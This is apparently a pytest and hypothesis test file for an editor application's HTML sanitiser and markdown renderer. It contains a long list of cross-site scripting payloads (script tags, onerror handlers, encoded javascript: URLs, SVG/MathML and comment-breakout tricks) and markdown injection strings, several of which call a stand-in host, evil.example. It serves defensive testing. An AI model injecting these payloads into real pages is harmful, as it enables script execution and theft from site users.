import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from editor_app.rendering.markdown_body import BodyContext, render_body, render_fragment
from editor_app.rendering.sanitise import sanitise

# Written for this program: each tries to run something, to load something, or to lead astray.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' ONERROR='alert(1)'>",
    '<img/src="x"/onerror="alert(1)">',
    "<img src=javascript:alert(1)>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src=//evil.example/x.png>",
    "<img src=\\\\evil.example\\x.png>",
    "<img src=https://evil.example/x.png>",
    "<img src=media/../../etc/passwd>",
    "<img src=media:%2e%2e%2fsecret>",
    "<img srcset='https://evil.example/x.png 2x' src=a.jpg>",
    "<picture><source srcset=https://evil.example/x.png><img src=a.jpg></picture>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>x</a>",
    "<a href='javascript&#0000058alert(1)'>x</a>",
    "<a href='\u0001javascript:alert(1)'>x</a>",
    "<a href='\u200bjavascript:alert(1)'>x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=blob:x>x</a>",
    "<a href=//evil.example/>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='/../../x'>x</a>",
    "<a href='/%2e%2e/x'>x</a>",
    "<a href=https:evil.example>x</a>",
    "<a href='https://user@evil.example\" onclick=alert(1) x='>x</a>",
    "<a href=https://a.example onclick=alert(1)>x</a>",
    "<a href=https://a.example style='position:fixed;inset:0'>x</a>",
    "<a href=https://a.example target=_blank ping=https://evil.example>x</a>",
    "<a href=https://a.example rel='opener prefetch'>x</a>",
    "<a href=article:javascript:x>x</a>",
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x></applet>",
    "<form action=https://evil.example><input name=a><button>go</button></form>",
    "<textarea><script>alert(1)</script></textarea>",
    "<select><option>x</select>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<p style='background:url(https://evil.example/x.png)'>x</p>",
    '<p style="x:expression(alert(1))">x</p>',
    "<p onclick=alert(1) onmouseover='alert(1)'>x</p>",
    "<p id=x name=y data-region=body data-src=1-1>x</p>",
    "<p class='page story-head site-head'>x</p>",
    "<body onload=alert(1) background=https://evil.example/x.png>x</body>",
    "<html manifest=x><head><title>x</title></head>",
    "<video src=https://evil.example/x.mp4 autoplay></video>",
    "<audio src=https://evil.example/x.mp3></audio>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><b>x",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- x --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<table background=https://evil.example/x.png><tr><td colspan=99999 rowspan=-1>x</td></tr></table>",
    "<ol start=1e9 reversed><li value=javascript:x>x</ol>",
    "<time datetime='javascript:alert(1)'>x</time>",
    "<q cite=https://evil.example/x>x</q>",
    "<ins cite=javascript:x datetime=2026>x</ins>",
    "<p lang='\"><script>' dir=x>x</p>",
    "<bdo dir=rtl>x</bdo>",
    "<a id=nav></a><a name=top></a>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<b><i></b></i><p><div></p></div>",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHN2Zz4=)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x](https://a.example "t\\" onclick=alert(1)")',
    "![x](https://evil.example/x.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    '![x" onerror="alert(1)](a.jpg)',
    "<javascript:alert(1)>",
    "# x {: onclick=alert(1) style=color:red #x .evil .wide }",
    'x\n{: onmouseover="alert(1)" }',
    "[x](https://a.example){: onclick=alert(1) target=_blank }",
    '```x" onclick="alert(1)\nx\n```',
    "``` { .x onclick=alert(1) }\nx\n```",
    '*[x]: " onclick=alert(1)\n\nx',
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    'x[^"><script>]\n\n[^"><script>]: x',
    "\x02wzxhzdk:0\x03 \x02amp\x03",
    "\uf8f03c\uf8f1",
    "| <script> | x |\n|---|---|\n| <img src=x onerror=alert(1)> | y |",
]
TAGS = {
    "a",
    "abbr",
    "aside",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "caption",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "u",
    "ul",
    "var",
    "wbr",
}
ATTRIBUTES = {
    "href",
    "src",
    "alt",
    "title",
    "class",
    "id",
    "dir",
    "lang",
    "rel",
    "span",
    "datetime",
    "open",
    "value",
    "reversed",
    "start",
    "colspan",
    "rowspan",
    "scope",
    "width",
    "height",
    "loading",
    "decoding",
    "role",
    "aria-label",
    "tabindex",
}
ADDRESS = re.compile(r"https?://[^/\\]|mailto:[^@]+@|article:|page:(?!/)|#(?:text-|note)")


class Judge(HTMLParser):
    """Reads HTML as a browser would and objects to all that could harm."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES, name
            if name == "href":
                assert ADDRESS.match(value or ""), value
            if name == "src":
                assert re.fullmatch(r"media:[^/\\:]+", value or ""), value

    def handle_comment(self, data: str) -> None:
        raise AssertionError("comment")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def judge(html: str) -> None:
    reader = Judge()
    reader.feed(html)
    reader.close()


@pytest.mark.parametrize("hostile", [*HOSTILE, *MARKDOWN])
def test_nothing_hostile_stands_on_a_page(hostile: str) -> None:
    judge(sanitise(hostile))
    for text in (hostile, f"before {hostile} after", f"- a\n\n    {hostile}", f"> {hostile}"):
        judge(render_body(text, BodyContext()).html)
        judge(render_fragment(text, BodyContext()))


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.sampled_from([*HOSTILE, *MARKDOWN]),
            st.text(st.sampled_from("<>/\"'= aonclikhrefsvg:&#;!-\n\t`*[]()"), max_size=12),
        ),
        max_size=5,
    )
)
def test_nothing_hostile_comes_together(pieces: list[str]) -> None:
    judge(sanitise("".join(pieces)))
    judge(render_body("".join(pieces), BodyContext()).html)


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ('<a href="https://a.example/?b=1&amp;c">x</a>',) * 2,
        ("<a>x</a>", "x"),
        ('<a href="javascript:x" title="t">x</a>', "x"),
        ('<a href="/about">x</a>', '<a href="page:about">x</a>'),
        (
            '<a href="https://a.example" rel="Sponsored evil nofollow sponsored">x</a>',
            '<a href="https://a.example" rel="sponsored nofollow">x</a>',
        ),
        ('<img src="boat.jpg" alt="A boat">', '<img src="media:boat.jpg" alt="A boat">'),
        ('<img src="https://a.example/b.jpg" alt="A boat">', ""),
        ("<p>x</p><p> </p>\n<p></p>", "<p>x</p>"),
        ('<p class="wide evil align-left wide">x</p>', '<p class="wide align-left">x</p>'),
        ('<p class="evil">x</p>', "<p>x</p>"),
        ('<code class="language-c++">x</code>',) * 2,
        ('<p id="Über Uns!">x</p>', '<p id="text-über-uns">x</p>'),
        ('<p id="!">x</p>', "<p>x</p>"),
        ('<p lang="en-GB" dir="ltr">x</p>',) * 2,
        ('<td colspan="2">x</td>', "x"),
        (
            '<table><tbody><tr><td colspan="2" rowspan="0">x</td></tr></tbody></table>',
            '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
        ),
        (
            '<ol start="-3" reversed=""><li value=" 7 ">x</li></ol>',
            '<ol start="-3" reversed=""><li value="7">x</li></ol>',
        ),
        (
            '<details open="x"><summary>s</summary>t</details>',
            '<details open=""><summary>s</summary>t</details>',
        ),
        ('<time datetime="2026-11-24T10:00Z">x</time>',) * 2,
        ("a&nbsp;b &lt; &amp; \u00a0", "a\u00a0b &lt; &amp; \u00a0"),
        ("<form>in <b>a</b> form</form>", "in <b>a</b> form"),
        (
            '<h2 id="x">a<div title="&gt;">b</div> <em>c</em></h2>',
            '<h2 id="text-x">a b <em>c</em></h2>',
        ),
        ("<h3>a  b</h3>",) * 2,
    ],
)
def test_what_is_sound_stays(html: str, kept: str) -> None:
    assert sanitise(html) == kept
